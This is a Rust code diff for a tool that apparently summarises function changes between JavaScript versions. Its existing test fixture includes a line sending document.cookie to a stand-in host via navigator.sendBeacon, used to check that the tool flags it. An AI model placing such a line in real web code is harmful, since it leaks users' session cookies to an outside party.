@@ -23,8 +23,8 @@ use crate::text::Text;
 
 /// Functions of each kind that are listed.
 const FUNCTIONS: usize = 20;
-/// Of those without a name.
-const UNNAMED: usize = 6;
+/// Of those without a name that tells something.
+const UNNAMED: usize = 12;
 /// Literals that are listed.
 const LITERALS: usize = 50;
 /// Hosts that are listed.
@@ -140,10 +140,12 @@ pub(super) struct LiteralRow {
 pub(super) struct Functions {
     pub(super) how: &'static str,
     pub(super) count: usize,
-    /// Those with a name.
+    /// Those with a name that tells something.
     pub(super) rows: Vec<(Text, Place)>,
-    /// Where those without one are.
+    /// Where those without one are; of what is gone nobody looks for them.
     pub(super) unnamed: Vec<Place>,
+    /// How many of these there are, where it is not said where.
+    pub(super) nameless: usize,
     pub(super) more: usize,
 }
 
@@ -369,19 +371,26 @@ fn functions(findings: &Findings, shown: &Shown) -> Vec<Functions> {
                 shown.place(function.line)
             }
         };
-        let (named, unnamed): (Vec<_>, Vec<_>) = all.into_iter().partition(|function| function.is_named());
+        let (named, unnamed): (Vec<_>, Vec<_>) =
+            all.into_iter().partition(|function| function.has_telling_name());
         let rows: Vec<_> = named
             .iter()
             .take(FUNCTIONS)
             .map(|function| (Text::of(&function.name), place(function)))
             .collect();
-        let unnamed: Vec<_> = unnamed.iter().take(UNNAMED).map(|function| place(function)).collect();
+        let (nameless, unnamed) = match how {
+            FunctionChange::Removed => (unnamed.len(), Vec::new()),
+            FunctionChange::Added | FunctionChange::Changed | FunctionChange::Moved => {
+                (0, unnamed.iter().take(UNNAMED).map(|function| place(function)).collect())
+            }
+        };
         Functions {
             how: how.code(),
             count: counts.of(how),
-            more: counts.of(how).saturating_sub(rows.len() + unnamed.len()),
+            more: counts.of(how).saturating_sub(rows.len() + unnamed.len() + nameless),
             rows,
             unnamed,
+            nameless,
         }
     });
     of_kind.filter(|functions| functions.count > 0).collect()
@@ -431,5 +440,21 @@ mod tests {
         }
         let loud = found("f(1);", "f(1); navigator.sendBeacon('https://a.test/', document.cookie)");
         assert!(loud.nothing_new.is_none() && !loud.summary.is_empty());
+    }
+
+    #[test]
+    fn functions_that_a_minifier_has_named_are_counted_and_those_that_are_there_have_their_lines() {
+        let old = "function e(a) { one(a) } function shown(a) { two(a) } f((b) => three(b)); g.fn.added = function () { four() }";
+        let new =
+            "function t(a, b) { five(b, a, 1) } function kept(a) { six(a, a, a) } f((c, d) => seven(d) + 8)";
+        let found = found(old, new);
+        let kind = |how: &str| {
+            let of_kind = found.functions.iter().find(|functions| functions.how == how).unwrap();
+            let names = of_kind.rows.iter().map(|(name, _)| name.to_string()).collect::<Vec<_>>();
+            (names, of_kind.unnamed.len(), of_kind.nameless, of_kind.more)
+        };
+        assert_eq!(kind("removed"), (vec!["shown".to_owned(), "g.fn.added".to_owned()], 0, 1, 0));
+        let (names, lines, nameless, more) = kind("added");
+        assert_eq!((names, lines, nameless, more), (vec!["kept".to_owned()], 1, 0, 0));
     }
 }
